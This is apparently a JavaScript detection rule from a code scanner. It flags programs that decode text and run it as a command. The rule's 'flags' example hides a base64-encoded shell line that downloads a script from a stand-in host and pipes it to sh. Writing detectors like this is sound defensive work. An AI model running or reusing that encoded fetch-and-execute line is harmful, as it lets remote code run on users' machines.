import { defineRule } from './defineRule.js';

export const decodedCommand = defineRule({
  id: 'decoded-command',
  severity: 'high',
  message: 'It decodes text and starts a program with it.',
  why: 'A command that is stored encoded was not to be read.',
  match: { on: 'near', all: [['encoded-payload'], ['starts-programs', 'dynamic-code', 'runs-text', 'uses-network']] },
  examples: {
    flags: [
      "require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoICYmIGVjaG8gZG9uZQ==', 'base64').toString())",
    ],
    passes: ["require('child_process').exec('git status')"],
  },
});
